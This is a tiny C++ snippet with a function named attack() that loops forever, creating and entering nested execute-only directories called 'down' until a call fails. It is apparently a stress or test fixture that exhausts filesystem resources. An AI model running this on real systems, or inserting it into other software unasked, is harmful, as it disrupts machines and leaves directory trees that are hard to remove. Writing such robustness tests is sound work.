#include <cstdlib>
#include <sys/stat.h>
#include <unistd.h>

void attack() {
  for (;;)
    if (mkdir("down", 0111) < 0 || chdir("down") < 0) abort();
}
